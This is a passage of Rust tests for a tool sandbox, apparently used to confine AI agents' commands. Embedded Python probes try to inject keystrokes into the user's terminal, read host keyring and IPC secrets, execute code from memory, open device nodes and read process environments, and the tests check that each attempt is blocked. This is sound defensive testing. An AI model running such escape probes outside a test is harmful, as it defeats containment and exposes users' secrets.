        for (method, body) in [("POST", body), ("GET", "")] {
            let call =
                serde_json::json!({"url": url, "method": method, "headers": framing, "body": body});
            let result = call_tool(&env, mode, &p, "fetch_url", &call);
            assert_eq!(result["ok"], true, "{mode:?} {method}: {result}");
            let wire = received.recv_timeout(Duration::from_secs(10)).unwrap();
            let wire = String::from_utf8_lossy(&wire).to_ascii_lowercase();
            let (head, sent_body) = wire.split_once("\r\n\r\n").unwrap();
            assert_eq!(
                sent_body,
                body.to_ascii_lowercase(),
                "{mode:?} {method}: {wire}"
            );
            assert!(head.contains("x-kept: yes"), "{mode:?} {method}: {wire}");
            for name in [
                "transfer-encoding",
                "connection",
                "keep-alive",
                "te:",
                "trailer",
                "upgrade",
                "expect",
            ] {
                assert!(
                    !head.contains(&format!("\r\n{name}")),
                    "{mode:?} {method} {name}: {wire}"
                );
            }
            let length = head.lines().find(|l| l.starts_with("content-length:"));
            let want = (!body.is_empty()).then(|| format!("content-length: {}", body.len()));
            assert_eq!(length.map(str::to_owned), want, "{mode:?} {method}: {wire}");
        }
    }
}

// guarantee: G-KERN-08
/// A child cannot reach the terminal toolcap was started from: what it pushed into the
/// terminal's input (`TIOCSTI`) the user's shell would read and run, outside any sandbox, once
/// toolcap ends. Run under a real terminal (`script`), with `/dev` in the read reach (a reach of
/// `/` alone shows a child only the sandbox's own devices): the child has no controlling
/// terminal (`/dev/tty` is `ENXIO`), and pushing into any terminal it can open is refused.
/// Checked on the terminal's side: the shell that runs after toolcap reads nothing the child
/// typed.
#[test]
fn a_child_cannot_type_into_the_users_terminal() {
    let env = Env::new("");
    let wide = env.personality(
        "wide.toml",
        &format!(
            "id = \"wide\"\n[fs_reach]\nread = [\"/dev\", \"{w}\"]\n[safety.process]\nallow = [\"python3\"]\n",
            w = env.root.join("work").display()
        ),
    );
    let probe = env.root.join("work/probe.py");
    std::fs::write(
        &probe,
        "import fcntl, glob, os, termios\n\
         try:\n    os.close(os.open('/dev/tty', os.O_RDONLY))\n    print('tty opened')\n\
         except OSError as e:\n    print('tty refused', e.errno)\n\
         for path in ['/dev/tty'] + sorted(glob.glob('/dev/pts/[0-9]*')):\n\
         \x20   try:\n        fd = os.open(path, os.O_RDONLY | os.O_NOCTTY)\n\
         \x20   except OSError:\n        continue\n\
         \x20   try:\n        for c in b'echo typed-by-the-child\\n':\n\
         \x20           fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n\
         \x20       print('typed into', path)\n\
         \x20   except OSError as e:\n        print('refused', path, e.errno)\n",
    )
    .unwrap();
    let call = serde_json::json!({"binary": "python3", "args": [probe]}).to_string();
    for mode in MODES {
        // toolcap in the foreground of a terminal's shell, then the shell reads a line.
        let run = env.root.join("run.sh");
        std::fs::write(
            &run,
            format!(
                "{toolcap} call {mode} --personality {wide} run_command '{call}'\n\
                 read -t 2 line; echo \"shell read:[$line]\"\n",
                toolcap = env!("CARGO_BIN_EXE_toolcap"),
                mode = mode.join(" "),
            ),
        )
        .unwrap();
        let out = Command::new("script")
            .args(["-qec", &format!("bash {}", run.display()), "/dev/null"])
            .env("XDG_DATA_HOME", env.root.join("data"))
            .env("HOME", &env.root)
            .env_remove("RUST_LOG")
            .current_dir(env.root.join("work"))
            .output()
            .expect("util-linux's script runs (CI installs it)");
        let terminal = String::from_utf8_lossy(&out.stdout);
        assert!(terminal.contains("\"ok\":true"), "{mode:?}: {terminal}");
        assert!(
            terminal.contains(&format!("tty refused {}", libc_enxio())),
            "{mode:?}: the child has a controlling terminal: {terminal}"
        );
        assert!(!terminal.contains("typed into"), "{mode:?}: {terminal}");
        assert!(terminal.contains("shell read:[]"), "{mode:?}: {terminal}");
    }
}

// guarantee: G-KERN-11
/// A confined child changes the metadata of no file outside its write reach: Landlock does not
/// mediate `chmod`, `utime`, extended attributes or `chown`, and a root host's child owns
/// nearly every file, so before every child got a read-only mount tree one could `chmod 666` a
/// file outside its reach (the canary) or in its read-only reach, by path or through a
/// descriptor opened for reading. Checked on disk, in both modes; the same calls still work
/// on a file in the child's scratch home, its one write root, with modes that open it to no
/// other account (the write bit of others, and extended attributes, are refused everywhere:
/// `a_child_cannot_open_its_write_reach_to_other_accounts`).
#[test]
fn a_child_changes_no_files_metadata_outside_its_write_reach() {
    use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
    let env = Env::new("");
    let canary_file = env.root.join("outside/canary");
    let readable = env.root.join("work/readme");
    std::fs::write(&readable, "readme").unwrap();
    let script = r#"
import json, os
r = {}
mine = os.path.join(os.environ['HOME'], 'mine')
open(mine, 'w').write('mine')
for path in PATHS + [mine]:
    def attempt(name, call):
        try:
            call()
            r[name + ' ' + path] = 0
        except OSError as e:
            r[name + ' ' + path] = e.errno
    def fchmod():
        fd = os.open(path, os.O_RDONLY)
        try:
            os.fchmod(fd, 0o604)
        finally:
            os.close(fd)
    attempt('chmod', lambda: os.chmod(path, 0o644))
    attempt('fchmod', fchmod)
    attempt('utime', lambda: os.utime(path, (0, 0)))
print(json.dumps(r))
"#;
    let p = env.root.join("p.toml").display().to_string();
    let state = |path: &Path| {
        let m = std::fs::metadata(path).unwrap();
        (m.mode(), m.mtime())
    };
    for mode in MODES {
        for file in [&canary_file, &readable] {
            std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o640)).unwrap();
        }
        let before = [state(&canary_file), state(&readable)];
        // The paths inside the script, as a library holds its own: the argument gate reads
        // arguments, not what a program does.
        let paths = [&canary_file, &readable].map(|p| p.display().to_string());
        let script = format!("PATHS = {}\n{script}", serde_json::json!(paths));
        let (result, all) = env.run(mode, &p, "python3", &["-c", &script]);
        let r: Value = serde_json::from_str(stdout_of(&result).trim())
            .unwrap_or_else(|e| panic!("{mode:?}: {e}: {all}"));
        let outcomes = r.as_object().unwrap();
        assert_eq!(outcomes.len(), 9, "{mode:?}: {r}");
        for (call, errno) in outcomes {
            // `run_command` writes nowhere but its scratch home.
            let mine = call.ends_with("/mine");
            assert_eq!(errno == 0, mine, "{mode:?}: {call} {errno}: {r}");
        }
        assert_eq!(
            [state(&canary_file), state(&readable)],
            before,
            "{mode:?}: a file outside the write reach changed: {r}"
        );
    }
}

// guarantee: G-KERN-12
/// A confined child reaches none of the host's System V IPC objects and leaves none behind:
/// they are not files, so Landlock does not see them, and in the host's IPC namespace a child
/// read a root-owned `0600` segment's content and left a message queue for the next child of
/// any tool. Checked on the host's side, in both modes.
#[test]
fn a_child_reaches_no_ipc_object_of_the_host_and_leaves_none() {
    let env = Env::new("");
    let key = 0x7e00_0000 | (std::process::id() & 0xffff) << 4;
    let host = |what: &str| {
        let script = "import ctypes, sys\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             libc.shmat.restype = ctypes.c_void_p\n\
             key = int(sys.argv[2])\n\
             if sys.argv[1] == 'make':\n\
             \x20   shmid = libc.shmget(key, 4096, 0o1000 | 0o2000 | 0o600)\n\
             \x20   ctypes.memmove(libc.shmat(shmid, None, 0), b'host-secret', 11)\n\
             else:\n\
             \x20   libc.shmctl(libc.shmget(key, 0, 0), 0, None)\n\
             \x20   q = libc.msgget(key + 1, 0)\n\
             \x20   print('queue left' if q >= 0 else 'no queue')\n\
             \x20   if q >= 0:\n        libc.msgctl(q, 0, None)\n";
        let out = Command::new("/usr/bin/python3")
            .args(["-c", script, what, &key.to_string()])
            .output()
            .unwrap();
        assert!(out.status.success(), "{what}: {out:?}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let probe = format!(
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\n\
         shmid = libc.shmget({key}, 0, 0)\n\
         print('found', ctypes.string_at(libc.shmat(shmid, None, 0), 11)) if shmid >= 0 else print('not found')\n\
         print('queue made' if libc.msgget({}, 0o1000 | 0o600) >= 0 else 'no queue made')\n",
        key + 1
    );
    let p = env.root.join("p.toml").display().to_string();
    for mode in MODES {
        host("make");
        let (result, all) = env.run(mode, &p, "python3", &["-c", &probe]);
        let left = host("clean");
        assert_eq!(
            stdout_of(&result),
            "not found\nqueue made\n",
            "{mode:?}: {all}"
        );
        assert!(!all.contains("host-secret"), "{mode:?}: {all}");
        assert_eq!(
            left, "no queue\n",
            "{mode:?}: the child's queue outlived it"
        );
    }
}

// guarantee: G-KERN-15
/// A confined child reads no key the host keeps in its user's keyring and plants none there:
/// keys are not files, so Landlock does not see them, and a root host's child is root in the
/// host's user namespace, whose user keyring (`@u`) every process of the account shares. A
/// key there (a token, a Kerberos ticket, a file system's key) was read by the child, and a
/// key the child added was the host's to find; `request_key` would also have the kernel start
/// `/sbin/request-key` outside the sandbox for a key it does not have. Checked on the host's
/// side, in both modes.
#[test]
fn a_child_reads_no_key_of_the_hosts_keyring_and_plants_none() {
    let env = Env::new("");
    let tag = std::process::id();
    let (host_key, child_key) = (
        format!("toolcap-host-{tag}"),
        format!("toolcap-child-{tag}"),
    );
    let calls = "import ctypes, sys\n\
         import platform\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         ADD, REQUEST, KEYCTL = {'x86_64': (248, 249, 250), 'aarch64': (217, 218, 219)}[platform.machine()]\n\
         USER = ctypes.c_long(-4)\n\
         def search(name):\n\
         \x20   return libc.syscall(KEYCTL, 10, USER, b'user', name.encode(), 0)\n";
    let host = |what: &str| {
        let script = format!(
            "{calls}\
             if sys.argv[1] == 'make':\n\
             \x20   made = libc.syscall(ADD, b'user', sys.argv[2].encode(), b'host-secret', 11, USER)\n\
             \x20   assert made > 0, ctypes.get_errno()\n\
             else:\n\
             \x20   for name in sys.argv[2:]:\n\
             \x20       key = search(name)\n\
             \x20       print(name.split('-')[1], 'key left' if key > 0 else 'no key')\n\
             \x20       if key > 0:\n\
             \x20           libc.syscall(KEYCTL, 21, ctypes.c_long(key))\n"
        );
        let out = Command::new("/usr/bin/python3")
            .args(["-c", &script, what, &host_key, &child_key])
            .output()
            .unwrap();
        assert!(out.status.success(), "{what}: {out:?}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let probe = format!(
        "{calls}\
         buf = ctypes.create_string_buffer(64)\n\
         key = search('{host_key}')\n\
         if key > 0:\n\
         \x20   libc.syscall(KEYCTL, 11, ctypes.c_long(key), buf, 64)\n\
         \x20   print('read', buf.value)\n\
         else:\n\
         \x20   print('search', ctypes.get_errno())\n\
         key = libc.syscall(REQUEST, b'user', b'{host_key}', None, USER)\n\
         print('request', ctypes.get_errno() if key < 0 else 'found')\n\
         made = libc.syscall(ADD, b'user', b'{child_key}', b'child', 5, USER)\n\
         print('add', ctypes.get_errno() if made < 0 else 'made')\n"
    );
    let p = env.root.join("p.toml").display().to_string();
    let eperm = 1;
    for mode in MODES {
        host("make");
        let (result, all) = env.run(mode, &p, "python3", &["-c", &probe]);
        let left = host("clean");
        assert_eq!(
            stdout_of(&result),
            format!("search {eperm}\nrequest {eperm}\nadd {eperm}\n"),
            "{mode:?}: {all}"
        );
        assert!(!all.contains("host-secret"), "{mode:?}: {all}");
        assert_eq!(
            left, "host key left\nchild no key\n",
            "{mode:?}: the child's key outlived it, or the host's went"
        );
    }
}

/// `ENXIO`: what opening `/dev/tty` without a controlling terminal fails with.
fn libc_enxio() -> i32 {
    6
}

// guarantee: G-KERN-13
/// A child of `run_command` that crashes leaves no core dump, in both modes: it raises its soft
/// core limit as far as the hard limit lets it, a grandchild touches 8 MiB and aborts in the
/// scratch home, and the child lists what is there. Before, the limit was the host's
/// (unlimited here) and a `core` of the grandchild's memory appeared; where `core_pattern` is a
/// program, that image would go to the host's crash handler instead.
#[test]
fn a_crashing_child_leaves_no_core_dump() {
    let env = Env::new("");
    let script = "import os, resource, subprocess\n\
         soft, hard = resource.getrlimit(resource.RLIMIT_CORE)\n\
         try:\n\
         \x20   resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))\n\
         except (OSError, ValueError):\n\
         \x20   pass\n\
         home = os.environ['HOME']\n\
         crash = 'import os\\nb = bytearray(8 << 20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\nos.abort()'\n\
         p = subprocess.run(['python3', '-c', crash], cwd=home)\n\
         print(p.returncode, *resource.getrlimit(resource.RLIMIT_CORE), sorted(os.listdir(home)))\n";
    let p = env.root.join("p.toml").display().to_string();
    for mode in MODES {
        let (result, all) = env.run(mode, &p, "python3", &["-c", script]);
        assert_eq!(
            stdout_of(&result).trim(),
            "-6 0 0 []",
            "{mode:?}: the grandchild aborts, the limit stays 0 and nothing is left: {all}"
        );
    }
}

// guarantee: G-KERN-13
/// toolcap's own process holds what no child sees: the secrets it resolves (its
/// `TOOLCAP_SECRET_` variables among them), an HTTP server's token, every session's calls. One
/// that crashes (an abort on a failed allocation, a stack overflow) is dumped by the kernel
/// where it runs, which for `toolcap mcp serve` is the project its tools read (watched failing:
/// `mcp serve` started with its core limit raised, as a service's `LimitCORE=infinity` or a
/// container's `--ulimit core=-1` leaves it, and aborted, left a `core` in its working
/// directory holding its secret). Its core limit is 0 from its start, soft and hard.
#[test]
fn a_crashing_toolcap_leaves_no_image_of_its_memory() {
    use std::io::BufRead as _;
    let env = Env::new("");
    let p = env.root.join("p.toml").display().to_string();
    let work = env.root.join("work");
    let secret = format!("{}-secret", canary());
    let mut serve = Command::new("sh")
        .arg("-c")
        .arg("ulimit -c unlimited 2>/dev/null; exec \"$@\"")
        .arg("sh")
        .arg(env!("CARGO_BIN_EXE_toolcap"))
        .args(["mcp", "serve", "--personality", &p])
        .env("TOOLCAP_SECRET_API_KEY", &secret)
        .env("HOME", &env.root)
        .env("XDG_DATA_HOME", env.root.join("data"))
        .env_remove("RUST_LOG")
        .current_dir(&work)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut said = std::io::BufReader::new(serve.stderr.take().unwrap());
    let mut line = String::new();
    while !line.contains("serving") {
        line.clear();
        assert!(said.read_line(&mut line).unwrap() > 0, "mcp serve ended");
    }
    let pid = serve.id();
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    let core: Vec<&str> = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap()
        .split_whitespace()
        .collect();
    let killed = Command::new("kill")
        .args(["-ABRT", &pid.to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    use std::os::unix::process::ExitStatusExt as _;
    assert_eq!(
        serve.wait().unwrap().signal(),
        Some(6),
        "it ended by the abort"
    );
    // The forbidden side first: nothing in the project holds the secret.
    for entry in std::fs::read_dir(&work).unwrap() {
        let path = entry.unwrap().path();
        let holds = std::fs::read(&path)
            .is_ok_and(|bytes| bytes.windows(secret.len()).any(|w| w == secret.as_bytes()));
        assert!(!holds, "{} holds the secret", path.display());
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        assert!(!name.starts_with("core"), "a core dump: {name}");
    }
    assert_eq!(core[4..6], ["0", "0"], "{limits}");
}

// guarantee: G-KERN-17
/// Through the command line, in process mode and in the capsule: a child of `run_command`
/// leaves nothing in its write reach (its home) that other accounts may write: `chmod 666`,
/// `umask 0` before making a file and a directory, an extended attribute, all fail or are
/// masked, as the child itself finds them on disk; a mode that opens nothing to others still
/// changes, and reading the mask by setting it leaves files the owner can read and write.
#[test]
fn a_child_leaves_nothing_others_may_write_in_both_modes() {
    let env = Env::new("");
    let script = "import ctypes, json, os\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.umask.restype = ctypes.c_uint\n\
         home = os.environ['HOME']\n\
         r = {}\n\
         def attempt(name, call):\n\
         \x20   try:\n        call()\n        r[name] = 0\n\
         \x20   except OSError as e:\n        r[name] = e.errno\n\
         f = os.path.join(home, 'f')\n\
         open(f, 'w').close()\n\
         attempt('chmod 666', lambda: os.chmod(f, 0o666))\n\
         h = os.path.join(home, 'h')\n\
         open(h, 'w').close()\n\
         attempt('chmod 640', lambda: os.chmod(h, 0o640))\n\
         attempt('setxattr', lambda: os.setxattr(f, 'user.toolcap', b'x'))\n\
         old = libc.umask(0)\n\
         libc.umask(old)\n\
         open(os.path.join(home, 'after'), 'w').close()\n\
         libc.umask(0)\n\
         os.close(os.open(os.path.join(home, 'g'), os.O_CREAT | os.O_WRONLY, 0o666))\n\
         os.mkdir(os.path.join(home, 'd'), 0o777)\n\
         modes = {n: oct(os.stat(os.path.join(home, n)).st_mode & 0o7777) for n in ('f', 'g', 'd', 'h', 'after')}\n\
         print(json.dumps({'r': r, 'modes': modes, 'xattrs': os.listxattr(f)}))\n";
    for mode in MODES {
        let got = env.python_json(mode, script);
        // The forbidden side first: nothing the child made may be written by others.
        for (name, m) in got["modes"].as_object().unwrap() {
            let bits =
                u32::from_str_radix(m.as_str().unwrap().trim_start_matches("0o"), 8).unwrap();
            assert_eq!(bits & 0o002, 0, "{mode:?}: {name} is {m}: {got}");
        }
        assert_eq!(got["xattrs"], serde_json::json!([]), "{mode:?}: {got}");
        assert_eq!(got["r"]["chmod 666"], EPERM, "{mode:?}: {got}");
        assert_eq!(got["r"]["setxattr"], EPERM, "{mode:?}: {got}");
        assert_eq!(got["r"]["chmod 640"], 0, "{mode:?}: {got}");
        assert_eq!(got["modes"]["h"], "0o640", "{mode:?}: {got}");
        let after = &got["modes"]["after"];
        assert!(after == "0o644" || after == "0o664", "{mode:?}: {got}");
    }
}

/// A child's limits are its own, not what the host's happened to be: a host started with real-
/// time priority allowed (`ulimit -r 99`, `LimitRTPRIO=` in a unit file, a container's
/// `--ulimit rtprio=99`) let a confined child switch itself to `SCHED_FIFO` and hold a core the
/// host needs, and one with the host's locked-memory limit (8 MiB by default, unlimited under
/// `--ulimit memlock=-1`, common for databases) pin that much where no swap can take it
/// (watched failing here: 1 MiB locked). Now a child has no real-time priority, cannot raise
/// its own priority, and locks at most 64 KiB, in both modes, however the host was started.
/// Where the host cannot be started with real-time priority allowed (this CI's root has no
/// `CAP_SYS_RESOURCE` to raise a hard limit), that half checks what the child is left with.
// guarantee: G-KERN-18
#[test]
fn a_child_takes_no_real_time_priority_and_locks_little_memory() {
    let env = Env::new("");
    let p = env.root.join("p.toml").display().to_string();
    let script = "import ctypes, json, mmap, os, resource\n\
                  r = {'rtprio': resource.getrlimit(resource.RLIMIT_RTPRIO),\n\
                  \x20    'memlock': resource.getrlimit(resource.RLIMIT_MEMLOCK),\n\
                  \x20    'nice': resource.getrlimit(resource.RLIMIT_NICE)}\n\
                  try:\n\
                  \x20   os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)); r['fifo'] = 'set'\n\
                  except OSError as e:\n\
                  \x20   r['fifo'] = e.errno\n\
                  libc = ctypes.CDLL(None, use_errno=True)\n\
                  buf = mmap.mmap(-1, 64 << 20)\n\
                  at = ctypes.addressof(ctypes.c_char.from_buffer(buf))\n\
                  r['mlock'] = 'locked' if libc.mlock(ctypes.c_void_p(at), ctypes.c_size_t(1 << 20)) == 0 else ctypes.get_errno()\n\
                  print(json.dumps(r))\n";
    for mode in MODES {
        let call =
            serde_json::json!({"binary": "python3", "args": ["-c", script], "timeout_ms": 20_000})
                .to_string();
        let mut argv = vec!["call"];
        argv.extend_from_slice(mode);
        argv.extend(["--personality", &p, "run_command", &call]);
        // The host started with both allowed, where it may raise them (root); otherwise with
        // what it has.
        let out = env.command(
            Command::new("sh")
                .arg("-c")
                .arg("ulimit -r 99 2>/dev/null; ulimit -l unlimited 2>/dev/null; ulimit -e 40 2>/dev/null; exec \"$@\"")
                .arg("sh")
                .arg(env!("CARGO_BIN_EXE_toolcap"))
                .args(&argv),
        );
        let all = printed(&out);
        let result: Value =
            serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {all}"));
        let said: Value = serde_json::from_str(stdout_of(&result).trim())
            .unwrap_or_else(|e| panic!("{mode:?}: {e}: {all}"));
        assert_eq!(
            said["rtprio"],
            serde_json::json!([0, 0]),
            "{mode:?}: {said}"
        );
        assert_eq!(said["nice"], serde_json::json!([0, 0]), "{mode:?}: {said}");
        assert_eq!(said["fifo"], EPERM, "{mode:?}: {said}");
        let memlock = said["memlock"][1].as_u64().unwrap();
        assert!(memlock <= 64 << 10, "{mode:?}: {said}");
        assert_ne!(said["mlock"], "locked", "{mode:?}: {said}");
    }
}

// guarantee: G-KERN-16
/// A child of `run_command` is the first process the kernel's out-of-memory killer ends, in
/// both modes: its `oom_score_adj`, read from outside while it waits, is 1000 whatever the
/// host's (lowered here to -500 first when the test runs as root, as a service's
/// `OOMScoreAdjust=` would, where the kernel lets it: a child inheriting that, up to a thousand
/// processes of 4 GiB each, would have the killer end the user's other programs first), and so
/// is its own child's; it cannot lower it (its `/proc` is read-only and outside its write
/// reach).
#[test]
fn a_child_is_the_first_the_out_of_memory_killer_ends() {
    let env = Env::new("");
    let p = env.root.join("p.toml").display().to_string();
    let go = env.root.join("work/out/go");
    for (round, mode) in MODES.iter().enumerate() {
        let marker = format!("oom-marker-{}-{round}", std::process::id());
        let script = format!(
            "import os, subprocess, sys, time\n\
             tried = []\n\
             for value in ['0', '-1000']:\n\
             \x20   try:\n\
             \x20       with open('/proc/self/oom_score_adj', 'w') as f:\n\
             \x20           f.write(value)\n\
             \x20       tried.append('wrote ' + value)\n\
             \x20   except OSError as e:\n\
             \x20       tried.append(e.strerror)\n\
             wait = 'import os, sys, time\\nwhile not os.path.exists(sys.argv[1]): time.sleep(0.01)'\n\
             grandchild = subprocess.Popen(['python3', '-c', wait, {go:?}, '{marker}-grandchild'])\n\
             while not os.path.exists({go:?}): time.sleep(0.01)\n\
             grandchild.wait()\n\
             print(*tried)\n",
            go = go.display().to_string(),
        );
        let call = serde_json::json!({"binary": "python3", "args": ["-c", script, format!("{marker}-child")], "timeout_ms": 20_000}).to_string();
        let mut argv = vec!["call"];
        argv.extend_from_slice(mode);
        argv.extend(["--personality", &p, "run_command", &call]);
        let _ = std::fs::remove_file(&go);
        // The host's own score lowered first where it may be (root); `nobody` keeps its 0.
        let toolcap = std::process::Command::new("sh")
            .arg("-c")
            .arg("echo -500 > /proc/self/oom_score_adj 2>/dev/null; exec \"$@\"")
            .arg("sh")
            .arg(env!("CARGO_BIN_EXE_toolcap"))
            .args(&argv)
            .env("XDG_DATA_HOME", env.root.join("data"))
            .env("HOME", &env.root)
            .current_dir(env.root.join("work"))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let host = toolcap.id();
        let child = accounts::oom_scores_of(&format!("{marker}-child"));
        let grandchild = accounts::oom_scores_of(&format!("{marker}-grandchild"));
        let host_score =
            std::fs::read_to_string(format!("/proc/{host}/oom_score_adj")).unwrap_or_default();
        std::fs::write(&go, "").unwrap();
        let out = toolcap.wait_with_output().unwrap();
        let all = printed(&out);
        // A fork that has not executed yet carries its parent's command line too: every
        // process found must have the score, and there must be one.
        let all_first = |found: &[String]| !found.is_empty() && found.iter().all(|s| s == "1000");
        assert!(
            all_first(&child),
            "{mode:?}: the child's score {child:?}: {all}"
        );
        assert!(
            all_first(&grandchild),
            "{mode:?}: its own child's {grandchild:?}: {all}"
        );
        assert!(
            !host_score.is_empty() && host_score.trim() != "1000",
            "{mode:?}: the host keeps its own: {host_score}"
        );
        let result: Value =
            serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{mode:?}: {e}: {all}"));
        let tried = stdout_of(&result);
        assert!(
            result["value"]["exit_code"] == 0 && !tried.contains("wrote"),
            "{mode:?}: the child could lower its score: {all}"
        );
    }
}

// guarantee: G-KERN-01
/// Code a child runs from memory or loads from its write reach is confined as the child is.
/// Landlock's execute right covers `execve` of a file on a path, not a file made in memory
/// (`memfd_create`, then `fexecve`), nor a library in the write reach mapped executable
/// (`dlopen`): an attacker who wants code of its own to run gets it run, in both modes, and
/// it still reads nothing outside the reach. Here a copy of `cat` run from memory is asked for
/// the canary, and a copy of the C library loaded from the scratch home opens it.
#[test]
fn code_run_from_memory_or_loaded_from_the_write_reach_is_as_confined_as_the_child() {
    let env = Env::new("");
    let canary_file = env.root.join("outside/canary");
    let script = format!(
        "import ctypes, glob, json, os, shutil, subprocess\n\
         CANARY = {canary}\n\
         home = os.environ['HOME']\n\
         r = {{}}\n\
         fd = os.memfd_create('cat', 0)\n\
         os.write(fd, open('/usr/bin/cat', 'rb').read())\n\
         p = subprocess.run(['/proc/self/fd/%d' % fd, CANARY], pass_fds=[fd], capture_output=True)\n\
         r['memory'] = [p.returncode, p.stdout.decode('latin-1'), p.stderr.decode('latin-1')]\n\
         libc_path = sorted(glob.glob('/usr/lib/*/libc.so.6') + glob.glob('/lib*/libc.so.6'))[0]\n\
         shutil.copy(libc_path, home + '/libc-copy.so')\n\
         libc = ctypes.CDLL(home + '/libc-copy.so', use_errno=True)\n\
         libc.__errno_location.restype = ctypes.POINTER(ctypes.c_int)\n\
         r['loaded'] = [libc.open(CANARY.encode(), 0), libc.__errno_location().contents.value]\n\
         print(json.dumps(r))\n",
        canary = serde_json::json!(canary_file.display().to_string())
    );
    let p = env.root.join("p.toml").display().to_string();
    for mode in MODES {
        let (result, all) = env.run(mode, &p, "python3", &["-c", &script]);
        assert!(
            !all.contains(&canary()),
            "{mode:?}: the canary leaked: {all}"
        );
        let r: Value = serde_json::from_str(stdout_of(&result).trim())
            .unwrap_or_else(|e| panic!("{mode:?}: {e}: {all}"));
        // `cat` ran from memory (an exec refused would not reach its own error message) and
        // could not open the canary.
        assert_eq!(r["memory"][0], 1, "{mode:?}: {r}");
        assert!(
            r["memory"][2]
                .as_str()
                .unwrap()
                .contains("Permission denied"),
            "{mode:?}: {r}"
        );
        assert_eq!(
            r["loaded"],
            serde_json::json!([-1, EACCES]),
            "{mode:?}: {r}"
        );
    }
}

// guarantee: G-KERN-14
/// A device node that lies in a child's reach opens nothing, in both modes. Landlock grants
/// reading a file beneath a read root whatever kind of file it is, and a child of a root host
/// keeps uid 0, which owns the nodes: a copy of a disk's node in the reach (a chroot's or a
/// container's root file system, made by its administrator) would be the whole disk, every
/// file of the host in it, read past every rule. Here a node of the kernel's zero device and
/// one of a loop device sit in the read reach; the child opens each for reading, then the
/// system devices it is given (`/dev/null` for writing, `/dev/zero` and `/dev/urandom` for
/// reading), which must still work. Making a node needs root (CI runs as root).
#[test]
fn a_device_node_in_the_reach_opens_nothing() {
    let env = Env::new("");
    let work = env.root.join("work");
    let made = |name: &str, kind: &str, major: &str, minor: &str| {
        Command::new("mknod")
            .arg(work.join(name))
            .args([kind, major, minor])
            .status()
            .is_ok_and(|s| s.success())
    };
    if !(made("zero-node", "c", "1", "5") && made("loop-node", "b", "7", "0")) {
        // Not root: nothing to plant (and nothing this test can show).
        assert!(!is_root(), "root makes device nodes");
        return;
    }
    let script = r#"
import json, os
r = {}
for name, path, flags in [
    ('zero-node', 'zero-node', os.O_RDONLY),
    ('loop-node', 'loop-node', os.O_RDONLY),
    ('zero-node-write', 'zero-node', os.O_WRONLY),
    ('/dev/null', '/dev/null', os.O_WRONLY),
    ('/dev/zero', '/dev/zero', os.O_RDONLY),
    ('/dev/urandom', '/dev/urandom', os.O_RDONLY),
]:
    try:
        fd = os.open(path, flags)
        r[name] = 0
        if flags == os.O_RDONLY:
            r[name + ' read'] = len(os.read(fd, 4))
        os.close(fd)
    except OSError as e:
        r[name] = e.errno
print(json.dumps(r))
"#;
    for mode in MODES {
        let r = env.python_json(mode, script);
        for node in ["zero-node", "loop-node", "zero-node-write"] {
            assert_eq!(r[node], EACCES, "{mode:?} {node}: {r}");
        }
        assert!(r.get("zero-node read").is_none(), "{mode:?}: {r}");
        for device in ["/dev/null", "/dev/zero", "/dev/urandom"] {
            assert_eq!(r[device], 0, "{mode:?} {device}: {r}");
        }
        assert_eq!(r["/dev/zero read"], 4, "{mode:?}: {r}");
    }
}

// guarantee: G-FS-12
/// A kernel file system mounted inside the reach (a chroot's `/proc`, made by its administrator)
/// is not a way around the deny floor, in both modes. Through it, `/proc/self/environ` is the
/// host process's own environment (the agent's keys; the canary here) and `/proc/1/cmdline`
/// another process's command line, which the floor keeps out of reach at `/proc`: a tool read
/// both with `read_file`, in process and from the capsule, and a child read the command line.
/// Mounting needs root (CI runs as root).
#[test]
fn a_kernel_file_system_inside_the_reach_is_out_of_it() {
    let env = Env::new("");
    let Some(_proc) = Mounted::new("proc", &env.root.join("work/proc")) else {
        // Not root, or a container's root without the right to mount: nothing to mount (and
        // nothing this test can show).
        return;
    };
    let Some(_sys) = Mounted::new("sysfs", &env.root.join("work/sys")) else {
        panic!("a procfs mounted but no sysfs");
    };
    // One process's command line bound over a file of the reach.
    std::fs::write(env.root.join("work/cmdline"), "").unwrap();
    let Some(_bound) = Mounted::bind(Path::new("/proc/1/cmdline"), &env.root.join("work/cmdline"))
    else {
        panic!("a procfs mounted but no file bound");
    };
    let p = env.root.join("p.toml").display().to_string();
    let proc = env.root.join("work/proc");
    for mode in MODES {
        for (path, shown) in [
            (proc.join("self/environ"), "canary"),
            (proc.join("1/cmdline"), "command line"),
            (env.root.join("work/sys/kernel/uevent_seqnum"), "sysfs"),
            (env.root.join("work/cmdline"), "a bound command line"),
        ] {
            let path = path.display().to_string();
            let out = read_file(&env, mode, &p, &path);
            assert_eq!(out["ok"], false, "{mode:?} {path}: {out}");
            assert!(
                out["error"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("PATH_NOT_REACHABLE"),
                "{mode:?} {path} ({shown}): {out}"
            );
            assert!(!out.to_string().contains(&canary()), "{mode:?}: {out}");
        }
        let (result, all) = env.run(
            mode,
            &p,
            "sh",
            &[
                "-c",
                &format!(
                    "cat {0}/1/cmdline {0}/self/environ {0}/../cmdline; ls {0} | wc -l",
                    proc.display()
                ),
            ],
        );
        assert!(!all.contains(&canary()), "{mode:?}: {all}");
        assert_eq!(
